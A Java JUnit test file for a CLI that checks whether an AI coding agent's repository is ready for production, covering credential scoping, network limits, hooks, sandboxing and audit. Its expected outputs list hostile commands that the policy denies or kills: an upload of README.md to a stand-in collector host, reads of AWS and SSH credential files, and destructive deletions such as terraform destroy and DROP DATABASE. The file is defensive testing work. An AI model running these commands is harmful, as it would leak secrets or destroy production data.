package dev.countersign.cli.checklist;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import dev.countersign.cli.Ran;
import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

@Timeout(60)
class CheckReadinessTest {

    @TempDir private Path temporary;
    private Path folder;
    private FakeServices services;
    private ReadyRepository repository;

    @BeforeEach
    void make() throws Exception {
        folder = Files.createDirectory(temporary.toRealPath().resolve("app"));
        services = new FakeServices();
        repository = ReadyRepository.in(folder, services);
    }

    @AfterEach
    void stop() {
        services.close();
    }

    private Ran readiness(String... arguments) {
        return asked(services.environment(), arguments);
    }

    private Ran asked(Map<String, String> environment, String... arguments) {
        Ran ran =
                Ran.knowing(
                        environment,
                        folder,
                        Stream.concat(Stream.of("readiness"), Stream.of(arguments))
                                .toArray(String[]::new));
        return new Ran(
                ran.status(),
                ran.out()
                        .replace(folder.toString(), "/home/dave/app")
                        .replaceAll("sha256:[0-9a-f]+", "sha256:…"),
                ran.err());
    }

    /** What is said of one point. */
    private static String point(int number, Ran ran) {
        String begin = "%2d ".formatted(number);
        return ran.out()
                .lines()
                .dropWhile(line -> !line.startsWith(begin))
                .takeWhile(line -> line.startsWith(begin) || line.startsWith("     "))
                .collect(Collectors.joining("\n", "", "\n"));
    }

    @Test
    void what_is_ready_is_ready_in_all_twelve_points_each_with_its_evidence() {
        Ran ran = readiness();

        assertThat(ran.out())
                .isEqualTo(
                        """
                        Readiness of /home/dave/app for code-assistant-prod
                        Judged by .agent-policy.yml

                         1 ✔ ready        Credentials are scoped
                             credentials[railway_token] is scoped
                             .env:1: RAILWAY_TOKEN is railway_token
                             .env.example:2: RAILWAY_TOKEN is railway_token
                         2 ✔ ready        Interfaces are mapped
                             apis[railway] names 2 operations
                             .env.example:3: backboard.railway.app is declared
                             .env.example:4: api.stripe.com is not declared and not open: deny
                             .mcp.json:2: github, a tool that is not listed: deny
                         3 ✔ ready        What cannot be undone is stopped
                             railway:volume_delete, curl -X POST https://backboard.railway.app/graphql -d
                             '{"query":"mutation { volumeDelete }"}': kill
                             (policies.kill[irreversible_infrastructure_deletion], .agent-policy.yml:17:10)
                             railway:backup_delete, curl -X DELETE https://backboard.railway.app/v1/backups/x: kill
                             (policies.kill[irreversible_infrastructure_deletion], .agent-policy.yml:17:10)
                             terraform destroy -auto-approve: kill (policies.kill[irreversible_infrastructure_deletion],
                             .agent-policy.yml:17:10)
                             kubectl delete namespace production: kill (policies.kill[irreversible_infrastructure_deletion],
                             .agent-policy.yml:17:10)
                             aws s3 rb s3://backups --force: kill (policies.kill[irreversible_infrastructure_deletion],
                             .agent-policy.yml:17:10)
                             psql -c 'DROP DATABASE production': require_approval (database, builtin/baseline.yml)
                         4 ✔ ready        Somebody can approve
                             decision-service put pol_1 in force, which it does only if people can approve.
                             asked for: 1 of approvers
                         5 ✔ ready        The agent is registered
                             code-assistant-prod is agt_1, for dave
                             in force for it is pol_1
                             (2.1+sha256:…): this policy
                         6 ✔ ready        Hooks are in force
                             .claude/settings.json:4: Claude Code asks before each tool
                             Write .claude/settings.json: require_approval (pipeline-and-guards, builtin/baseline.yml)
                             code-assistant-prod reported by its hook, a session since 2026-11-20T08:00:00Z
                         7 ✔ ready        The agent runs in a sandbox
                             Claude Code: sandbox.enabled is true
                             Claude Code: sandbox.allowUnsandboxedCommands is false
                         8 ✔ ready        Unknown hosts are out of reach
                             curl https://collector.unlisted-host.net/: deny (permissions.network.allow_outbound,
                             .agent-policy.yml:6:29)
                             curl --data-binary @README.md https://collector.unlisted-host.net/: deny
                             (permissions.network.allow_outbound, .agent-policy.yml:6:29)
                             wget -qO- https://collector.unlisted-host.net/: deny (permissions.network.allow_outbound,
                             .agent-policy.yml:6:29)
                             WebFetch https://collector.unlisted-host.net/: deny (permissions.network.allow_outbound,
                             .agent-policy.yml:6:29)
                         9 ✔ ready        Credentials are out of reach
                             Read .env: deny (secrets.read, builtin/baseline.yml)
                             holds a credential, Read config/tokens.txt: deny
                             (permissions.filesystem.deny[config/tokens.txt], .agent-policy.yml:5:23)
                             Read ~/.aws/credentials: deny (secrets.read, builtin/baseline.yml)
                             Read ~/.ssh/id_ed25519: deny (secrets.read, builtin/baseline.yml)
                        10 ✔ ready        Branches are protected
                             git push --force origin main: deny (constraints.protected_branches.force,
                             .agent-policy.yml:7:35)
                             git push origin --delete main: deny (constraints.protected_branches.force,
                             .agent-policy.yml:7:35)
                             git push origin main: require_approval (constraints.protected_branches, .agent-policy.yml:7:35)
                        11 ✔ ready        What happens is recorded
                             audit-service answers; its newest event is of 2026-11-20T11:59:00Z
                        12 ✔ ready        The emergency bypass was tried
                             byp_1, asked for by dave, reviewed by carol

                        12 ready, 0 not ready, 0 cannot be told.
                        """);
        assertThat(ran.status()).isZero();
        assertThat(ran.err()).isEmpty();
    }

    /** Takes something away. */
    interface Break {
        void in(ReadyRepository repository) throws Exception;
    }

    static Stream<Arguments> broken() {
        return Stream.of(
                breaking(
                        "a credential without scope",
                        1,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY.replace(
                                                ", environments: [production]", "")),
                        """
                         1 ✘ not ready    Credentials are scoped
                             credentials[railway_token] has neither environments nor issued_for
                             → Declare each under credentials: id, env, and environments or issued_for.
                        """),
                breaking(
                        "a variable that nobody declared",
                        1,
                        it -> it.write("web/.env.template", "A=1\nSTRIPE_API_KEY=\n"),
                        """
                         1 ✘ not ready    Credentials are scoped
                             web/.env.template:2: STRIPE_API_KEY is not declared
                             → Declare each under credentials: id, env, and environments or issued_for.
                        """),
                breaking(
                        "an open host that is not declared",
                        2,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY.replace(
                                                "[github.com]", "[api.stripe.com]")),
                        """
                         2 ✘ not ready    Interfaces are mapped
                             .env.example:4: api.stripe.com is open to the agent and not declared
                             → Declare each under apis with hosts and operations or deny its host; list the tools of MCP
                               servers.
                        """),
                breaking(
                        "an interface without operations",
                        2,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY.replace(
                                                "apis:",
                                                "apis:\n  - {id: bare, hosts: [bare.acme.io]}")),
                        """
                         2 ✘ not ready    Interfaces are mapped
                             apis[bare] names no operations
                             → Declare each under apis with hosts and operations or deny its host; list the tools of MCP
                               servers.
                        """),
                breaking(
                        "a server whose tools are all open",
                        2,
                        it -> it.policy(ReadyRepository.POLICY.replace("mcp: deny", "mcp: allow")),
                        """
                         2 ✘ not ready    Interfaces are mapped
                             .mcp.json:2: github, every tool of this MCP server is open to the agent
                             → Declare each under apis with hosts and operations or deny its host; list the tools of MCP
                               servers.
                        """),
                breaking(
                        "an operation that only warns",
                        3,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY
                                                        .replaceAll("(?s)policies:.*", "")
                                                        .replace(
                                                                "github.com",
                                                                "backboard.railway.app")
                                                + "rules: [{id: trust, effect: warn, match: {effect: [infra.delete, infra.change, net.upload]}}]\n"),
                        """
                         3 ✘ not ready    What cannot be undone is stopped
                             terraform destroy -auto-approve: warn (programs.known, builtin/baseline.yml)
                             kubectl delete namespace production: warn (programs.known, builtin/baseline.yml)
                             aws s3 rb s3://backups --force: warn (programs.known, builtin/baseline.yml)
                             → Give each a rule: policies.kill, policies.control with require_hitl, or deny.
                        """),
                breaking(
                        "a policy that only observes",
                        3,
                        it -> it.policy(ReadyRepository.POLICY + "mode: observe\n"),
                        """
                         3 ✘ not ready    What cannot be undone is stopped
                             railway:volume_delete, curl -X POST https://backboard.railway.app/graphql -d
                             '{"query":"mutation { volumeDelete }"}': allow, because the policy only observes
                             railway:backup_delete, curl -X DELETE https://backboard.railway.app/v1/backups/x: allow,
                             because the policy only observes
                             terraform destroy -auto-approve: allow, because the policy only observes
                             kubectl delete namespace production: allow, because the policy only observes
                             aws s3 rb s3://backups --force: allow, because the policy only observes
                             psql -c 'DROP DATABASE production': allow, because the policy only observes
                             → Give each a rule: policies.kill, policies.control with require_hitl, or deny.
                        """),
                breaking(
                        "a policy that is not in force",
                        4,
                        it -> it.inForce("sha256:00"),
                        """
                         4 ? cannot tell  Somebody can approve
                             This policy is not in force, so nobody has looked for its approvers.
                             asked for: 1 of approvers
                             → Publish it: agent-policy publish --activate .agent-policy.yml
                        """),
                breaking(
                        "an agent that nobody registered",
                        5,
                        it -> it.services().says("/v1/agents", "[]"),
                        """
                         5 ✘ not ready    The agent is registered
                             code-assistant-prod is not registered
                             → Register the agent, give it a key, and publish the policy: agent-policy publish --activate
                               .agent-policy.yml
                        """),
                breaking(
                        "a key that is no longer good, and another policy in force",
                        5,
                        it -> {
                            it.services()
                                    .says(
                                            "/v1/agents",
                                            "[{\"name\":\"code-assistant-prod\",\"keys\":[{\"expires_at\":\"2026-11-20T11:00:00Z\"}]}]");
                            it.inForce("sha256:00");
                        },
                        """
                         5 ✘ not ready    The agent is registered
                             code-assistant-prod has no key that is good
                             in force for code-assistant-prod is pol_1 (2.1+sha256:…), not this policy
                             → Register the agent, give it a key, and publish the policy: agent-policy publish --activate
                               .agent-policy.yml
                        """),
                breaking(
                        "a hook that fails open and asks for one tool",
                        6,
                        it ->
                                it.write(
                                        ".claude/settings.json",
                                        ReadyRepository.SETTINGS
                                                .replace("900, \"onFailure\": \"block\"", "60")
                                                .replace(
                                                        "{\"hooks\": [",
                                                        "{\"matcher\": \"Bash\", \"hooks\": [")
                                                .replace(
                                                        "\"sandbox\"",
                                                        "\"disableAllHooks\": true, \"sandbox\"")),
                        """
                         6 ✘ not ready    Hooks are in force
                             .claude/settings.json turns hooks off: /disableAllHooks
                             .claude/settings.json:4: the hook asks for some tools only: Bash
                             .claude/settings.json:4: the hook lets calls through when it fails; say onFailure: block
                             .claude/settings.json:4: the hook stops waiting too early; say timeout above 540
                             → Register countersign-hook as decision-service/hook/README.md shows, and deny writing the
                               settings.
                        """),
                breaking(
                        "settings of an agent without the hook",
                        6,
                        it -> it.write(".cursor/hooks.json", "{\"version\": 1, \"hooks\": {}}"),
                        """
                         6 ✘ not ready    Hooks are in force
                             Cursor does not ask Countersign before a tool (preToolUse in .cursor/hooks.json)
                             → Register countersign-hook as decision-service/hook/README.md shows, and deny writing the
                               settings.
                        """),
                breaking(
                        "a hook that has never reported, in settings that the agent may change",
                        6,
                        it -> {
                            it.services().says("/v1/sessions", "[]");
                            it.policy(
                                    ReadyRepository.POLICY
                                            + "rules: [{id: open, effect: allow, match: {effect: [guard.edit]}}, {id: files, effect: allow, match: {paths: {any: [\".claude/**\"]}}}]\n");
                        },
                        """
                         6 ✘ not ready    Hooks are in force
                             Write .claude/settings.json: allow (files, .agent-policy.yml:18:67)
                             no hook of code-assistant-prod has reported for a week
                             → Register countersign-hook as decision-service/hook/README.md shows, and deny writing the
                               settings.
                        """),
                breaking(
                        "a sandbox that calls may leave",
                        7,
                        it ->
                                it.write(
                                        ".claude/settings.json",
                                        ReadyRepository.SETTINGS.replace(
                                                ", \"allowUnsandboxedCommands\": false", "")),
                        """
                         7 ✘ not ready    The agent runs in a sandbox
                             Claude Code: sandbox.allowUnsandboxedCommands is not set
                             → Turn the sandbox on in the agent's settings.
                        """),
                breaking(
                        "full access",
                        7,
                        it ->
                                it.write(
                                        ".codex/config.toml",
                                        "sandbox_mode = \"danger-full-access\" # fast\n[a]\nsandbox_mode = \"read-only\"\n"),
                        """
                         7 ✘ not ready    The agent runs in a sandbox
                             Codex: sandbox_mode is danger-full-access
                             → Turn the sandbox on in the agent's settings.
                        """),
                breaking(
                        "open doors",
                        8,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY.replace(
                                                "allow_outbound: false, exceptions: [github.com]",
                                                "allow_outbound: true")),
                        """
                         8 ✘ not ready    Unknown hosts are out of reach
                             curl https://collector.unlisted-host.net/: warn (programs.known, builtin/baseline.yml)
                             wget -qO- https://collector.unlisted-host.net/: warn (programs.known, builtin/baseline.yml)
                             WebFetch https://collector.unlisted-host.net/: allow (permissions.network.allow_outbound,
                             .agent-policy.yml:6:29)
                             → Say defaults: {network: deny}, and list the hosts that are needed.
                        """),
                breaking(
                        "a token in a file that may be read",
                        9,
                        it ->
                                it.write(
                                        "docs/setup.md",
                                        "use rw_0123456789abcdefghijklmnopqrstuv\n"),
                        """
                         9 ✘ not ready    Credentials are out of reach
                             holds a credential, Read docs/setup.md: allow (default.filesystem.read, builtin/baseline.yml)
                             → Deny reading it (permissions.filesystem.deny), and move what is real to a vault.
                        """),
                breaking(
                        "a default branch that is not protected",
                        10,
                        it ->
                                it.write(
                                        ".git/refs/remotes/origin/HEAD",
                                        "ref: refs/remotes/origin/trunk\n"),
                        """
                        10 ✘ not ready    Branches are protected
                             git push origin trunk: warn (programs.known, builtin/baseline.yml)
                             → Say constraints: {protected_branches: ["trunk"]}.
                        """),
                breaking(
                        "records with gaps",
                        11,
                        it ->
                                it.policy(
                                        ReadyRepository.POLICY
                                                + "audit: {log_all_actions: false}\n"),
                        """
                        11 ✘ not ready    What happens is recorded
                             .agent-policy.yml says audit.log_all_actions: false
                             → Leave audit.log_all_actions out, or say true.
                        """),
                breaking(
                        "no right to see events",
                        11,
                        it -> it.services().refuses("/v1/events"),
                        """
                        11 ? cannot tell  What happens is recorded
                             audit-service answers /v1/events?limit=1 with status 403.
                             → Use the token of somebody who may see it, such as an auditor.
                        """),
                breaking(
                        "another server",
                        11,
                        it -> it.services().says("/v1/events", "<html>"),
                        """
                        11 ? cannot tell  What happens is recorded
                             What answers /v1/events?limit=1 is not audit-service.
                             → Correct COUNTERSIGN_AUDIT_URL.
                        """),
                breaking(
                        "a bypass that nobody reviewed",
                        12,
                        it -> it.services().says("/v1/bypasses", "[{\"reviewed_by\":null}]"),
                        """
                        12 ✘ not ready    The emergency bypass was tried
                             No bypass was reviewed, of 1.
                             → Drill: ask for a short bypass of something harmless, have it approved, let it end, review it.
                        """));
    }

    private static Arguments breaking(String name, int point, Break made, String said) {
        return argumentSet(name, point, made, said);
    }

    @ParameterizedTest
    @MethodSource("broken")
    void what_is_missing_is_found_with_what_to_do(int point, Break made, String said)
            throws Exception {
        made.in(repository);

        Ran ran = readiness();

        assertThat(point(point, ran)).isEqualTo(said);
        assertThat(ran.status()).isEqualTo(1);
    }

    @Test
    void what_only_services_know_cannot_be_told_without_them() {
        Ran ran = asked(Map.of());

        assertThat(Stream.of(4, 5, 11, 12).map(number -> point(number, ran)).toList())
                .containsExactly(
                        " 4 ? cannot tell  Somebody can approve\n     decision-service was not asked.\n     → Set COUNTERSIGN_URL to its address, and a token.\n",
                        " 5 ? cannot tell  The agent is registered\n     decision-service was not asked.\n     → Set COUNTERSIGN_URL to its address, and a token.\n",
                        "11 ? cannot tell  What happens is recorded\n     audit-service was not asked.\n     → Set COUNTERSIGN_AUDIT_URL to its address, and a token.\n",
                        "12 ? cannot tell  The emergency bypass was tried\n     approval-service was not asked.\n     → Set COUNTERSIGN_APPROVAL_URL to its address, and a token.\n");
        assertThat(ran.out()).endsWith("\n8 ready, 0 not ready, 4 cannot be told.\n");
        assertThat(ran.status()).isEqualTo(1);
    }

    @Test
    void services_that_are_gone_are_named() {
        Map<String, String> environment = services.environment();
        services.close();

        Ran ran = asked(environment);

        assertThat(point(12, ran).replaceAll(":\\d{4,5} ", ":1 "))
                .isEqualTo(
                        """
                        12 ? cannot tell  The emergency bypass was tried
                             http://127.0.0.1:1 cannot be reached. Is approval-service running there?
                             → Set address and token as agent-policy readiness --help says.
                        """);
        assertThat(ran.out()).endsWith("\n8 ready, 0 not ready, 4 cannot be told.\n");
    }

    @Test
    void a_policy_with_errors_does_nothing() throws Exception {
        repository.write(".agent-policy.yml", "version: \"2.1\"\nruls: []\n");

        Ran ran = readiness("--agent", "code-assistant-prod");

        assertThat(point(8, ran))
                .isEqualTo(
                        """
                         8 ✘ not ready    Unknown hosts are out of reach
                             .agent-policy.yml:2:1: unknown key "ruls"; did you mean "rules"?
                             → Correct the policy: agent-policy lint.
                        """);
        assertThat(ran.out()).endsWith("\n2 ready, 10 not ready, 0 cannot be told.\n");
    }

    @Test
    void an_empty_folder_is_judged_by_the_baseline() throws Exception {
        Path empty = Files.createDirectory(temporary.resolve("empty"));

        Ran ran = asked(Map.of(), empty.toString());

        assertThat(ran.out().replace(empty.toRealPath().toString(), "/empty"))
                .startsWith("Readiness of /empty\nJudged by the shipped baseline\n")
                .endsWith("\n5 ready, 1 not ready, 6 cannot be told.\n");
    }

    @Test
    void json_says_the_same() {
        services.refuses("/v1/bypasses");

        Ran ran = readiness("--json");

        assertThat(ran.out())
                .startsWith(
                        "{\"folder\":\"/home/dave/app\",\"agent\":\"code-assistant-prod\",\"ready\":false,\"points\":["
                                + "{\"id\":\"credential-scoping\",\"title\":\"Credentials are scoped\",\"state\":\"ready\",\"evidence\":[")
                .endsWith(
                        "{\"id\":\"bypass\",\"title\":\"The emergency bypass was tried\",\"state\":\"cannot_tell\","
                                + "\"evidence\":[\"approval-service answers /v1/bypasses with status 403.\"],"
                                + "\"next\":\"Use the token of somebody who may see it, such as an auditor.\"}]}\n");
        assertThat(ran.status()).isEqualTo(1);
    }

    @Test
    void what_leads_out_of_the_folder_is_not_followed_and_what_is_too_large_is_not_read()
            throws Exception {
        Files.writeString(temporary.resolve("outside.env"), "STOLEN_TOKEN=x\n");
        Files.createSymbolicLink(folder.resolve("a.env"), temporary.resolve("outside.env"));
        Files.createSymbolicLink(folder.resolve("b.env"), Path.of("b.env"));
        Files.createSymbolicLink(folder.resolve("up"), temporary);
        try (var huge = new RandomAccessFile(folder.resolve("c.env").toFile(), "rw")) {
            huge.setLength(1L << 33);
        }

        assertThat(point(1, readiness()))
                .isEqualTo(
                        """
                         1 ? cannot tell  Credentials are scoped
                             a.env leads out of the folder and was not followed.
                             b.env cannot be read.
                             c.env is larger than 1 MiB and was not read.
                             → Make it readable, or take it out of the folder.
                        """);
    }

    @Test
    void a_policy_that_is_no_file_of_the_folder_is_not_taken_for_absent() throws Exception {
        Path policy = folder.resolve(".agent-policy.yml");
        Files.move(policy, temporary.resolve("elsewhere.yml"));
        Files.createSymbolicLink(policy, temporary.resolve("elsewhere.yml"));

        assertThat(point(8, readiness()))
                .isEqualTo(
                        """
                         8 ✘ not ready    Unknown hosts are out of reach
                             .agent-policy.yml leads out of the folder and was not followed.
                             → Correct the policy: agent-policy lint.
                        """);
    }

    @Test
    void a_pipe_is_not_waited_for() throws Exception {
        Path pipe = folder.resolve(".env.local");
        assumeThat(new ProcessBuilder("mkfifo", pipe.toString()).start().waitFor()).isZero();

        assertThat(point(1, readiness()))
                .isEqualTo(
                        """
                         1 ? cannot tell  Credentials are scoped
                             .env.local is no regular file.
                             → Make it readable, or take it out of the folder.
                        """);
    }

    @Test
    void what_lies_too_deep_and_names_that_move_the_cursor_are_told() throws Exception {
        Files.createDirectories(folder.resolve("d/".repeat(120)));
        Files.writeString(folder.resolve("\u001b[2J.env"), "A_TOKEN=1\n");

        Ran ran = readiness();

        assertThat(point(1, ran))
                .isEqualTo(
                        """
                         1 ✘ not ready    Credentials are scoped
                             \\x1b[2J.env:1: A_TOKEN is not declared
                             → Declare each under credentials: id, env, and environments or issued_for.
                        """);
        assertThat(point(9, ran))
                .isEqualTo(
                        """
                         9 ? cannot tell  Credentials are out of reach
                             d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/d/… lies too deep to be looked at.
                             → Make everything readable for you, or take it out of the folder.
                        """);
        assertThat(ran.out()).doesNotContain("\u001b");
    }

    @Test
    void settings_that_are_no_json_do_not_count_as_hooks() throws Exception {
        repository.write(".claude/settings.json", "{\"a\":".repeat(5000));

        assertThat(point(6, readiness()))
                .isEqualTo(
                        """
                         6 ✘ not ready    Hooks are in force
                             .claude/settings.json is no JSON, so its hooks do not run
                             → Register countersign-hook as decision-service/hook/README.md shows, and deny writing the
                               settings.
                        """);
    }

    @Test
    void a_folder_that_is_not_there_is_wrong_usage() {
        assertThat(readiness("gone"))
                .isEqualTo(new Ran(2, "", "%s/gone is no folder.\n".formatted(folder)));
    }
}
